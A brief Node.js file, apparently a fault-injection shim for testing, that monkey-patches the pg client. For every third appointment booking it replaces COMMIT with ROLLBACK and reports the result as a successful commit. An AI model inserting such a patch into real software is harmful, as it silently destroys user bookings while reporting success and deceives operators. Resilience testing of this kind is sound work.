/** Preloaded into the app: now and then a booking is acknowledged, and its COMMIT fails. */
const pg = require('pg');

const ONE_IN = 3;
const booking = new WeakSet();
let bookings = 0;

const send = pg.Client.prototype.query;
pg.Client.prototype.query = function (statement, ...rest) {
  const text = typeof statement === 'string' ? statement : statement.text;
  if (/\bINSERT INTO appointment\b/.test(text)) booking.add(this);
  if (text !== 'COMMIT' || !booking.delete(this) || ++bookings % ONE_IN !== 0)
    return send.call(this, statement, ...rest);
  return send.call(this, 'ROLLBACK').then((result) => ({ ...result, command: 'COMMIT' }));
};
